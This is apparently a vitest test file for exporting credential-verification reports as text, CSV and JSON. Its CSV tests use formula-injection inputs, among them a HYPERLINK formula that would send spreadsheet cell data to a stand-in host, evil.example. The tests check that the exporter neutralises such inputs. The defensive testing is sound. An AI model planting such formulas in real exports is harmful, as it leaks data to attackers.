import { describe, expect, test } from 'vitest';
import type { VerificationReport } from '../../../core/report/report.js';
import { elementIds } from '../../../core/elements/element.js';
import { de } from '../../../core/language/de.js';
import { en } from '../../../core/language/en.js';
import { languages } from '../../../core/language/index.js';
import { csv } from '../../../core/report/csv.js';
import { type CopyKind, copiesOf } from '../../../core/report/export.js';
import type { Audience } from '../../../core/report/presentation.js';
import { plain } from '../../../core/language/phrase.js';
import { present } from '../../../core/report/present.js';
import { decidedBy, findings, issuer, report } from './reports.js';

const missing = { status: 'missing', reason: 'element.not-stated' } as const;

function copied(
  kind: CopyKind,
  value: VerificationReport = report(),
  language = en,
  audience: Audience = 'evaluator',
): string {
  const presentation = present(value, { audience, language });
  const copy = copiesOf(value, presentation, language).find(one => one.kind === kind);
  return copy?.make() ?? '';
}

/** Reads RFC 4180 back: cells between quotes, quotes doubled, rows ended by CR LF. */
const rowsIn = (text: string): readonly (readonly string[])[] =>
  text
    .split('\r\n')
    .slice(0, -1)
    .map(line => [...line.matchAll(/"((?:[^"]|"")*)"(?:,|$)/g)].map(([, cell = '']) => cell.replaceAll('""', '"')));

test('everybody takes a report along as text, an evaluator in three forms', () => {
  const kinds = (audience: Audience) =>
    copiesOf(report(), present(report(), { audience, language: en }), en).map(({ kind }) => kind);
  expect([kinds('recruiter'), kinds('learner')]).toEqual([['text'], ['text']]);
  expect(kinds('evaluator')).toEqual(['text', 'csv', 'json']);
});

test.each(languages.map(language => [language.name, language] as const))('every form is named in %s', (_, language) => {
  const presentation = present(report(), { audience: 'evaluator', language });
  const copies = copiesOf(report(), presentation, language);
  expect(new Set(copies.flatMap(({ copied: said, label }) => [said, label])).size).toBe(6);
});

describe('as CSV', () => {
  test('a report is a heading and a row an element, all of one length', () => {
    const rows = rowsIn(copied('csv'));
    expect(rows.map(([id]) => id)).toEqual(['id', ...elementIds]);
    expect(new Set(rows.map(row => row.length))).toEqual(new Set([13]));
  });

  test('a row holds the raw value, its place, where it comes from and which text asks for it', () => {
    const level = rowsIn(copied('csv')).find(([id]) => id === 'level');
    expect(level).toEqual([
      'level',
      'Level',
      en.elements.level.official,
      'present',
      'stated',
      'element.stated',
      'EQF 6',
      '/credentialSubject/level',
      '',
      'in the credential',
      'where it applies',
      'where it applies',
      en.elements.level.question,
    ]);
  });

  test('the heads are in the language of the reader, the identifiers in none', () => {
    const [heads, first] = rowsIn(copied('csv', report(), de));
    expect(heads?.slice(0, 3)).toEqual(['id', 'Element', 'Amtliche Bezeichnung']);
    expect(first?.[0]).toBe('learner-identity');
  });

  test.each(['=1+1', '+1', '-1 ECTS', '@SUM(A1)', '\t=1', '\r=1', ' =1', '＝1', '＠x'])(
    'a cell that begins like the formula %j is text',
    text => {
      const written = csv([[text]]);
      expect(written).toMatch(/^"'/u);
      expect(written.replaceAll("'", '')).toBe(`"${text}"\r\n`);
    },
  );

  test('quotes, commas and line breaks stay inside their cell', () => {
    expect(csv([['a "b", c', 'd\ne', '']])).toBe('"a ""b"", c","d\ne",""\r\n');
  });

  test('no cell of a hostile credential is a formula or breaks out of its row', () => {
    const hostile = '=HYPERLINK("https://evil.example?"&A1,"x")\r\n"@x';
    const values = Object.fromEntries(
      elementIds.map(id => [id, { value: hostile, pointer: hostile, document: hostile }]),
    );
    const rows = rowsIn(copied('csv', report({ elements: findings(values) })));
    expect(rows).toHaveLength(elementIds.length + 1);
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^\s*[=+\-@]/u);
  });
});

describe('as JSON', () => {
  const json = (value?: VerificationReport): Readonly<Record<string, unknown>> =>
    JSON.parse(copied('json', value)) as Readonly<Record<string, unknown>>;

  test('a report has the same keys whatever it says', () => {
    const keys = [
      ...['checkedAt', 'format', 'verdict', 'because', 'checks', 'issuer', 'coverage', 'elements'],
      ...['track', 'microbolTrack', 'lenses', 'criteria', 'contacted'],
    ];
    expect(Object.keys(json())).toEqual(keys);
    expect(Object.keys(json(decidedBy('proof.altered')))).toEqual(keys);
  });

  test('it holds the findings as they are, and both lists with their gaps by identifier', () => {
    const value = report({
      elements: findings({ workload: { status: 'weak', reason: 'element.no-unit', value: '5' }, level: missing }),
    });
    expect(json(value)['elements']).toEqual(value.elements);
    expect(json(value)['lenses']).toMatchObject({
      council: { stated: 10, of: 11, track: 'recognition', missing: ['level'], implausible: [], weak: ['workload'] },
      microbol: { stated: 10, of: 18, track: 'prior-learning' },
    });
  });

  test('it is the same in every language, and holds nothing that could be obeyed or could hide', () => {
    const value = report({ elements: findings({ title: { value: 'a\u202eb\u0085c\u2028d' } }) });
    expect(copied('json', value, de)).toBe(copied('json', value, en));
    expect(copied('json', value)).not.toMatch(/[\u0085\u2028\u202e]/u);
    expect(copied('json', value)).toContain('a\\u202eb\\u0085c\\u2028d');
  });
});

describe('as text', () => {
  test('a report begins with its headline and says every element, both lists, the criteria and who was asked', () => {
    const text = copied('text', report({ elements: findings({ workload: missing }) }));
    expect(text).toMatch(/^Intact and in force\. Signed by uni-lumen\.example\./u);
    for (const line of [
      '\nThe standard elements\n- Who earned it: Learner A (in the credential: /credentialSubject/learner-identity)\n',
      '\n- How much work: not stated in the credential.\n',
      '\n- Council Recommendation: 10 of 11 stated. Assessment like a foreign qualification or study period. Not stated: workload.\n',
      '\n- 1 Quality of the course: robust\n',
      '\nWho was asked\n- Checked on this device; nobody was contacted.\n',
      '\nOpen Badge 3.0 · Checked on 21 November 2026 at 10:42 UTC · issuer.web-address\n',
    ])
      expect(text).toContain(line);
  });

  test('it names who issued it, what a list says of that, and what it only states of its issuer', () => {
    const listed = {
      directory: 'partners',
      name: 'Partners',
      version: '2026-11-01',
      curation: 'vetted',
      origin: 'imported',
      organisation: 'https://ror.org/000000100',
      organisationName: 'University of Lumen',
      matchedBy: 'did',
      stale: false,
      note: 'met in June',
    } as const;
    const provenName = {
      value: 'University of Lumen',
      source: { kind: 'bundled', name: 'Partners', version: '2026-11-01' },
    } as const;
    const text = copied('text', report({ issuer: issuer(2, { listedIn: [listed], provenName }) }));
    expect(text).toContain(`\n${en.stages.issuer}\n- University of Lumen\n- rung 2 of 4: `);
    expect(text).toMatch(/\n- [^\n]*University of Lumen[^\n]*Partners[^\n]*met in June/u);
  });

  const receipt = {
    fingerprint: '3f2a91c0'.repeat(8),
    path: [{ kind: 'address', at: 'https://uni-lumen.example/b/1.json?token=secret' }],
  } as const;

  test.each(
    languages.flatMap(language =>
      (['recruiter', 'evaluator', 'learner'] as const).map(one => [one, language] as const),
    ),
  )(
    'for a %s it holds the headline, what is not stated, and by what the check is known again',
    (audience, language) => {
      const value = report({ ...receipt, elements: findings({ workload: missing }) });
      const text = copied('text', value, language, audience);
      const { gaps, headline } = present(value, { audience, language });
      for (const said of [headline, ...gaps]) expect(text).toContain(plain(said));
      expect(gaps).toHaveLength(1);
      expect(text).toContain(`${'3F2A 91C0 '.repeat(8).trim()}\n`);
      expect(text).toContain(`https://uni-lumen.example/b/1.json?…\n`);
      expect(text).not.toContain('secret');
      expect(text.includes('issuer.web-address')).toBe(audience === 'evaluator');
    },
  );

  test.each(languages.map(language => [language.name, language] as const))(
    'in %s it leaves no gap in its words',
    (_, language) => {
      for (const value of [report(), report({ elements: [] }), decidedBy('proof.key-unreachable')])
        expect(copied('text', value, language)).not.toMatch(/undefined|null|\[object| {2}|\n{3}|\(\)/u);
    },
  );
});
